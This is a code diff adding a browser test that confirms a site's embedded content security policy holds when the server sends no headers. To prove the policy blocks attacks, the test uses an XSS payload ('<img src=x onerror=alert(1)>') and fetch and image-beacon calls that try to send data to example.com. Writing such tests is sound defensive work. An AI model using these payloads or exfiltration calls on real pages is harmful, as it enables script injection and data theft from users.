@@ -140,3 +140,41 @@ test('a first visit receives every file Brotli-compressed; a returning visitor d
     pristine.close();
   }
 });
+
+test('on a host that sends no headers at all, the page still runs under its own policy', async () => {
+  const bare = createServer({ root: path.join(dist, 'site'), headers: {} });
+  const url = await listen(bare, 0);
+  const context = await site.browser.newContext();
+  try {
+    const page = await context.newPage();
+    const problems = [];
+    page.on('console', (m) => ['error', 'warning'].includes(m.type()) && problems.push(m.text()));
+    page.on('pageerror', (e) => problems.push(e.message));
+    await page.addInitScript(() => {
+      window.__violations = [];
+      document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective));
+    });
+    const response = await page.goto(url);
+    assert.equal(response.headers()['content-security-policy'], undefined, 'the server sent no policy');
+    await page.locator('html[data-ready="true"]').waitFor({ state: 'attached' });
+    assert.deepEqual(problems, [], 'the policy in the page lets it run, without a word');
+    // Trusted Types are required: HTML is never parsed from a string.
+    const parsed = await page.evaluate(() => {
+      try {
+        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
+        return 'parsed';
+      } catch (error) {
+        return error.name;
+      }
+    });
+    assert.equal(parsed, 'TypeError');
+    // Nothing is sent to another origin, not even by an image.
+    await page.evaluate(() => fetch('https://example.com/answers', { method: 'POST', body: '{}' }).catch(() => {}));
+    await page.evaluate(() => document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.com/pixel.png?answers' })));
+    await page.waitForFunction(() => window.__violations.length >= 3);
+    assert.deepEqual(await page.evaluate(() => [...new Set(window.__violations)].sort()), ['connect-src', 'img-src', 'require-trusted-types-for']);
+  } finally {
+    await context.close();
+    bare.close();
+  }
+});
